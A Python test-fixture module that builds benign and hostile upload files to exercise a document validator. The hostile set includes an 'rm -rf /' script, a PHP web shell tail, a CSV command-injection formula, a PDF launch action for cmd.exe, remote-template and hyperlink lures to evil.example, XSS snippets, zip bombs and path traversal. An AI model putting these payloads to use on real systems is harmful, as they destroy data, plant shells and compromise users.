"""Good and hostile files, built here byte by byte so that the tests carry no binary fixtures."""

import struct
import zipfile
import zlib
from io import BytesIO

from openlab.files.archives import OOXML_TYPES

CFB = bytes.fromhex("D0CF11E0A1B11AE1")
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def zipped(parts: dict[str, bytes | str], *, packed: bool = True) -> bytes:
    """Return a ZIP of the parts in order."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra: bytes, tail: bytes = b"") -> bytes:
    """Return a PNG of one pixel with extra chunks before the picture and anything behind the end."""
    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    return head + b"".join(extra) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"") + tail


def jpeg(comment: bytes = b"seaside", tail: bytes = b"") -> bytes:
    """Return the frame of a JPEG with a comment and anything behind the end."""
    jfif = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    note = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return b"\xff\xd8" + jfif + note + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\xd9" + tail


def webp(tail: bytes = b"") -> bytes:
    """Return the frame of a WebP and anything behind the end."""
    body = b"WEBPVP8L" + struct.pack("<I", 8) + b"\x2f\0\0\0\0\0\0\0"
    return b"RIFF" + struct.pack("<I", len(body)) + body + tail


def ooxml(ending: str = "docx", **parts: bytes | str) -> bytes:
    """Return the frame of a Word, Excel or PowerPoint file; keyword parts are added or replace."""
    types = b'<?xml version="1.0"?><Types><Override ContentType="' + OOXML_TYPES[ending] + b'"/></Types>'
    return zipped(
        {"[Content_Types].xml": types, "_rels/.rels": b"<Relationships/>", "word/document.xml": "<w/>"} | parts
    )


def odf(mimetype: str, **parts: bytes | str) -> bytes:
    """Return the frame of an OpenDocument or HWPX file."""
    return zipped({"mimetype": mimetype, "content.xml": "<x/>"} | parts, packed=False)


def hwp(extra: bytes = b"") -> bytes:
    """Return what recognises a HWP 5 file: compound file, directory entry, signature."""
    return (
        CFB + b"\0" * 504 + "FileHeader".encode("utf-16-le") + b"\0" * 64 + b"HWP Document File" + b"\0" * 200 + extra
    )


def zip_that_lies() -> bytes:
    """Return a ZIP whose directory says 10 bytes where two million are packed."""
    content = bytearray(zipped({"a.txt": b"a" * 2_000_000}))
    real = struct.pack("<I", 2_000_000)
    for _ in range(2):
        position = content.find(real)
        content[position : position + 4] = struct.pack("<I", 10)
    return bytes(content)


def encrypted_zip() -> bytes:
    """Return a ZIP whose entry is marked as encrypted."""
    content = bytearray(zipped({"a.txt": b"secret"}))
    content[6] |= 1
    position = content.find(b"PK\x01\x02")
    content[position + 8] |= 1
    return bytes(content)


def zip_with_link() -> bytes:
    """Return a ZIP with a symbolic link."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("notes.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


GOOD = {
    "계획서.pdf": PDF,
    "현장.png": png(),
    "현장.jpg": jpeg(),
    "photo.JPEG": jpeg(),
    "현장.webp": webp(),
    "공문.hwp": hwp(),
    "공문.hwpx": odf("application/hwp+zip"),
    "제안서 v1.2.docx": ooxml("docx"),
    "산출내역.xlsx": ooxml("xlsx"),
    "발표.pptx": ooxml("pptx"),
    "notes.odt": odf("application/vnd.oasis.opendocument.text"),
    "표.ods": odf("application/vnd.oasis.opendocument.spreadsheet"),
    "자료.csv": "구간,건수\n가,-3\n나,+82-2-500\n".encode("cp949"),
    "설명.txt": "한글 설명\n둘째 줄\n".encode(),
    "묶음.zip": zipped({"안내/계획서.pdf": PDF, "안내/현장.png": png(), "읽기.txt": "안내"}),
    "맥.zip": zipped({"a.pdf": PDF, "__MACOSX/._a.pdf": b"\x00\x05\x16\x07" + b"\0" * 40}),
}

_REMOTE = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
_MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

# file name → (content, part of the sentence that must answer)
HOSTILE = {
    "virus.exe": (b"MZ\x90\0", "받지 않습니다"),
    "logo.svg": (b"<svg onload=alert(1)>", "받지 않습니다"),
    "page.html": (b"<html>", "받지 않습니다"),
    "macro.docm": (ooxml("docx"), "받지 않습니다"),
    "macro.xlsm": (ooxml("xlsx"), "받지 않습니다"),
    "noending": (PDF, "확장자"),
    "pay.exe.pdf": (PDF, "숨어"),
    "page.html .pdf": (PDF, "숨어"),
    "empty.pdf": (b"", "빈 파일"),
    "program.pdf": (b"MZ\x90\0" + PDF, "실행 파일"),
    "script.txt": (b"#!/bin/sh\nrm -rf /\n", "실행 파일"),
    "late.pdf": (b"GIF89a junk " + PDF, "확장자만"),
    "cut.pdf": (b"%PDF-1.7\nnothing more", "확장자만"),
    "two.pdf": (PDF + zipped({"a.txt": "x"}), "두 가지"),
    "page.pdf": (b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF", "두 가지"),
    "active.pdf": (
        PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "스크립트",
    ),
    "launch.pdf": (PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /Launch /F (cmd.exe) >>"), "스크립트"),
    "renamed.png": (jpeg(), "확장자만"),
    "comment.png": (png(chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "두 가지"),
    "tail.png": (png(tail=b"<?php system($_GET[0]); ?>"), "깨졌거나"),
    "broken.png": (png()[:-6], "깨졌거나"),
    "head.jpg": (jpeg(b"<html><script>alert(1)</script>"), "두 가지"),
    "archive.jpg": (jpeg(tail=zipped({"a.txt": "x"})), "두 가지"),
    "endless.jpg": (jpeg()[:-2], "깨졌거나"),
    "long.webp": (webp(tail=b"<svg onload=alert(1)>"), "깨졌거나"),
    "old.hwp": (CFB + b"\0" * 600 + "WordDocument".encode("utf-16-le"), "확장자만"),
    "packed.hwp": (hwp("\x01Ole10Native".encode("utf-16-le")), "매크로"),
    "macro.docx": (ooxml("docx", **{"word/vbaProject.bin": CFB}), "매크로"),
    "typed.docx": (ooxml("docx", **{"[Content_Types].xml": _MACRO_TYPES}), "문서가 아닙니다"),
    "remote.docx": (ooxml("docx", **{"word/_rels/settings.xml.rels": _REMOTE}), "바깥에서"),
    "program.docx": (ooxml("docx", **{"word/embeddings/run.exe": b"MZ"}), "매크로"),
    "word.xlsx": (ooxml("docx"), "문서가 아닙니다"),
    "plain.docx": (zipped({"a.txt": "x"}), "문서가 아닙니다"),
    "basic.odt": (odf("application/vnd.oasis.opendocument.text", **{"Basic/Standard/script.xml": "<x/>"}), "매크로"),
    "entity.docx": (
        ooxml("docx", **{"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + OOXML_TYPES["docx"]}),
        "문서가 아닙니다",
    ),
    "page.txt": (b"  <!DOCTYPE html><script>alert(1)</script>", "확장자만"),
    "binary.csv": (b"a,b\n\0\x01,2", "글자를 읽을 수"),
    "utf16.csv": ("가,나".encode("utf-16"), "글자를 읽을 수"),
    "formula.csv": (b"name,cost\n=cmd|' /C calc'!A0,1\n", "계산식"),
    "link.csv": (b'name,cost\n"=HYPERLINK(""https://evil.example"")",1\n', "계산식"),
    "bomb.zip": (zipped({"a.txt": b"a" * 30_000_000}), "지나치게"),
    "bomb.docx": (ooxml("docx", **{"word/media.bin": b"a" * 30_000_000}), "지나치게"),
    "many.zip": (zipped({f"{number}.txt": "x" for number in range(2001)}), "지나치게"),
    "nested.zip": (zipped({"inner.zip": zipped({"a.txt": "x"})}), "압축 파일 안의 압축"),
    "disguised.zip": (zipped({"inner.pdf": zipped({"a.txt": "x"})}), "inner.pdf"),
    "program.zip": (zipped({"run.exe": b"MZ"}), "run.exe"),
    "escape.zip": (zipped({"../../etc/cron.txt": "x"}), "바깥 폴더"),
    "link.zip": (zip_with_link(), "바깥 폴더"),
    "prefixed.zip": (b"<html></html>" + zipped({"a.txt": "x"}), "앞에 다른"),
    "liar.zip": (zip_that_lies(), "깨졌거나"),
    "locked.zip": (encrypted_zip(), "암호"),
    "cut.zip": (zipped({"a.txt": "x"})[:-8], "깨졌거나"),
}
